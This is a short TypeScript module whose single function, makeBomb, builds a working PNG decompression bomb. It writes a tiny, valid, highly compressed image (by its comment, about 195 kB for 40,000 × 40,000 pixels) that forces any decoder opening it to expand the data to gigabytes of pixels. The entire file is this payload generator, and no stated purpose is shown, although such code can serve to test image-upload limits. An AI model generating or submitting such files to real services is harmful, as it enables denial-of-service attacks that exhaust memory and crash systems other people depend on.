import { Readable } from 'node:stream';
import { crc32, createDeflate } from 'node:zlib';

/**
 * A sound PNG of black pixels, one bit each: 40,000 × 40,000 of them take 195 kB. Compressed a hundred rows at a time, so
 * that whoever makes it needs no memory for them. The width is a multiple of 8, the height of 100.
 */
export async function makeBomb(width: number, height: number): Promise<Uint8Array> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((1 + width / 8) * 100);
  const repeated = Array<Buffer>(height / 100).fill(rows);
  const pieces = await Readable.from(repeated)
    .pipe(createDeflate({ level: 9 }))
    .toArray();
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', Buffer.concat(pieces as Buffer[])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(data.length, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
}
